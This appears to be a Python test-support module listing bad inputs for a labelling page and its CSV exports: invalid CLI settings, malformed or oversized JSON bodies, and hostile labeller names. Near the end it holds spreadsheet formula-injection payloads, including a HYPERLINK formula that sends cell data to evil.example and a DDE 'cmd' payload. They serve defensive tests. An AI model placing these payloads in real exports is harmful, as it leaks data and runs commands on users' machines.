"""Bad input of the labelling page and of the CSV exports. CLI cases (the corpus's kind): ``label`` settings refused
before a store is made. HTTP bodies and names the page must answer 4xx (never a 500), and the formula-leading names
every CSV judgewise writes must neutralise: they are no command line, so the page's and the exports' tests use
them (tests/report/test_label_page_never_fails.py, tests/commands/test_csv_formula_cells.py)."""

from __future__ import annotations

from pathlib import Path

from tests.support.bad_inputs.inputs import Case
from tests.support.labelling import make_label_inputs

PAGE = "labelling page (commands/labels.py, report/labelling.py)"


def _label(name: str, *args: str, names=()) -> Case:
    """``judgewise label`` of a small valid task with ``args`` added; refused before anything is served or made."""
    def build(root: Path) -> list:
        scores, responses, items = make_label_inputs(root, n_items=6)
        return ["label", scores, "--store", root / "labels.sqlite", "--target", "judge-x", "--items", items,
                "--responses", responses, "--port", "0", *args]
    return Case(name, build, tuple(names), PAGE, timeout=45.0)


LABELLING_CASES = [
    # an infinite width made every answer of the page non-JSON ("Infinity"): a 500 on every request
    _label("label_stop_width_infinite", "--stop-width", "inf", names=("--stop-width",)),
    _label("label_stop_width_overflowing", "--stop-width", "1e999", names=("--stop-width",)),
    _label("label_stop_width_nan", "--stop-width", "nan", names=("--stop-width",)),
    _label("label_order_unknown", "--order", "random", names=("--order", "selection", "informative")),
]

# --- HTTP: what a browser or a script can POST to /label and /undo (all under the 64 KiB body cap) -------------
NESTED = b'{"labeller": "ann", "item": "item-00", "value": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
HOSTILE_BODIES = {
    "lone surrogate labeller": b'{"labeller": "\\ud800", "item": "item-00", "value": 1}',
    "surrogate pair half in item": b'{"labeller": "ann", "item": "item-0\\udc00", "value": 1}',
    "NUL in labeller": b'{"labeller": "a\\u0000b", "item": "item-00", "value": 1}',
    "escape in labeller": b'{"labeller": "\\u001b[31mann", "item": "item-00", "value": 1}',
    "10,000 nested arrays": b"[" * 10_000 + b"]" * 10_000,
    "nested arrays as the value": NESTED,
    "nested objects": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "NaN value": b'{"labeller": "ann", "item": "item-00", "value": NaN}',
    "Infinity value": b'{"labeller": "ann", "item": "item-00", "value": 1e999}',
    "a 5000-digit value": b'{"labeller": "ann", "item": "item-00", "value": ' + b"9" * 5000 + b"}",
    "item as a list": b'{"labeller": "ann", "item": ["item-00"], "value": 1}',
    "labeller as an object": b'{"labeller": {"name": "ann"}, "item": "item-00", "value": 1}',
    "invalid UTF-8": b'{"labeller": "\xff\xfe", "item": "item-00", "value": 1}',
    "a JSON string": b'"ann"',
    "empty object": b"{}",
    "truncated": b'{"labeller": "ann", "item": "item-00", "val',
}
VALUE_ONLY = {"NaN value", "Infinity value"}  # well-formed but off the scale: an undo reads no value, so it is kept

HOSTILE_NAMES = ["\ud800", "", "   ", "a\x00b", "tab\there", "x" * 201]  # labeller names the page refuses (400)

# --- CSV exports: names a spreadsheet would run as formulas (OWASP's leading =, +, -, @, tab, CR) --------------
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_NAMES = [LINK, "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0", "\t=1+1", "plain"]
